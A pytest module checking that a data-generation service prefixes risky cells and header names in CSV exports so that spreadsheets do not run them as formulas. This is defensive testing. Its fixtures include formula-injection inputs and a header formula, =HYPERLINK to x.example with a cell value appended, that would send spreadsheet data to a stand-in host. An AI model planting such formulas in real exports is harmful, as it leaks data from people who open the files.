"""Neutralisation of spreadsheet formulas in CSV exports (CSV injection), on by default.

Every CSV path: the engine's writer (and so the CLI), stored job files, block parts joined into
one file, Parquet converted on download, zips of CSVs and learned-model outputs, header names
included. ``SYNDATA_CSV_NEUTRALIZE_FORMULAS=0`` writes text verbatim.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pytest

from generation import engine, parts, services
from generation.models import Job

RISKY = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "plain", "a=b", "-5", "+1.5"]
DEFUSED = {"'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tx", "plain", "a=b", "-5", "+1.5"}
SPEC = {
    "tables": {
        "t": {
            "rows": 300,
            "fields": {
                "id": {"type": "id"},
                "cell": {"type": "category", "values": RISKY},
                "n": {"type": "int", "dist": {"kind": "uniform", "low": -50, "high": -1}},
            },
        },
        "u": {"rows": 20, "fields": {"cell": {"type": "category", "values": RISKY}}},
    }
}
HOSTILE_HEADER = '=HYPERLINK("http://x.example/?"&A1)'


def _read(body: bytes) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(body.decode()))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def _job(client: Any, fmt: str) -> Job:
    resp = client.post("/api/generate", {"schema": SPEC, "format": fmt, "seed": 3}, format="json")
    assert resp.status_code == 202, resp.content
    job = Job.objects.get(id=resp.json()["id"])
    services.job_run_sequential(job=job)  # both tables in this process (no block tasks)
    job.refresh_from_db()
    assert job.status == "succeeded", job.error
    return job


def _download(client: Any, job: Job, query: str) -> bytes:
    resp = client.get(f"/api/download/{job.id}?{query}")
    assert resp.status_code == 200, resp.content
    content = getattr(resp, "streaming_content", None)
    return b"".join(content) if content is not None else resp.content


def test_the_engine_writer_defuses_cells_and_header_names_by_default() -> None:
    table = pa.table({HOSTILE_HEADER: RISKY, "@n": list(range(-4, 5)), "ok": RISKY})
    sink = io.BytesIO()
    writer = engine.open_writer("csv", sink, table.schema)
    writer.write(table)
    writer.close()
    header, rows = _read(sink.getvalue())
    assert header == ["'" + HOSTILE_HEADER, "'@n", "ok"]
    assert {r["ok"] for r in rows} == DEFUSED
    assert {r["'" + HOSTILE_HEADER] for r in rows} == DEFUSED
    # Numbers stay numbers: a negative int is written bare, not quoted nor prefixed.
    assert b"\n-4," not in sink.getvalue() and b",-4," in sink.getvalue()
    # Every text cell is quoted, as OWASP advises with the prefix.
    assert b'"\'=1+1"' in sink.getvalue()

    verbatim = io.BytesIO()
    writer = engine.open_writer("csv", verbatim, table.schema, neutralize_formulas=False)
    writer.write(table)
    writer.close()
    header, rows = _read(verbatim.getvalue())
    assert header == [HOSTILE_HEADER, "@n", "ok"]
    assert {r["ok"] for r in rows} == set(RISKY)


def test_block_parts_joined_keep_the_defused_header(tmp_path: Path) -> None:
    table = pa.table({"@risky": RISKY, "n": list(range(len(RISKY)))})
    files = [tmp_path / "000000.csv", tmp_path / "000001.csv"]
    for path in files:
        parts.write_part("csv", table, path)
    sink = io.BytesIO()
    parts.join_parts("csv", files, sink, table.schema)
    header, rows = _read(sink.getvalue())
    assert header == ["'@risky", "n"]
    assert {r["'@risky"] for r in rows} == DEFUSED and len(rows) == 2 * len(RISKY)


@pytest.mark.django_db(transaction=True)
def test_formulas_are_defused_by_default_on_every_download(alice_client: Any) -> None:
    for fmt in ("csv", "parquet"):  # a CSV file, and a CSV converted on download
        job = _job(alice_client, fmt)
        _, rows = _read(_download(alice_client, job, "table=t&format=csv"))
        assert {r["cell"] for r in rows} == DEFUSED, fmt
        assert all(int(r["n"]) < 0 for r in rows)
    # Several tables as one zip of CSVs.
    job = _job(alice_client, "csv")
    with zipfile.ZipFile(io.BytesIO(_download(alice_client, job, "format=csv"))) as zf:
        for name in zf.namelist():
            _, rows = _read(zf.read(name))
            assert {r["cell"] for r in rows} <= DEFUSED and rows, name


@pytest.mark.django_db(transaction=True)
def test_csv_is_verbatim_when_the_setting_is_off(alice_client: Any, settings: Any) -> None:
    settings.SYNDATA_CSV_NEUTRALIZE_FORMULAS = False
    for fmt in ("csv", "parquet"):
        _, rows = _read(_download(alice_client, _job(alice_client, fmt), "table=t&format=csv"))
        assert {r["cell"] for r in rows} == set(RISKY), fmt


@pytest.mark.django_db(transaction=True)
def test_a_learned_model_output_defuses_hostile_header_names_and_cells(
    alice_client: Any,
) -> None:
    from tests.synthesis.conftest import fit_now, upload

    frame = pd.DataFrame(
        {
            HOSTILE_HEADER: ["=1+1", "@cmd", "plain", "-2+3"] * 10,
            "amount": [float(i) for i in range(40)],
        }
    )
    dataset = upload(alice_client, frame, "hostile.csv")
    fit = fit_now(alice_client, dataset["id"], "gaussian_copula", seed=3)
    resp = alice_client.post(
        "/api/generate",
        {"model_id": fit["model_id"], "format": "csv", "rows": 200, "seed": 4},
        format="json",
    )
    assert resp.status_code == 202, resp.content
    services.job_run(job_id=resp.json()["id"])
    job = Job.objects.get(id=resp.json()["id"])
    assert job.status == "succeeded", job.error
    header, rows = _read(_download(alice_client, job, "format=csv"))
    assert header == ["'" + HOSTILE_HEADER, "amount"]
    assert {r["'" + HOSTILE_HEADER] for r in rows} <= {"'=1+1", "'@cmd", "plain", "'-2+3"}
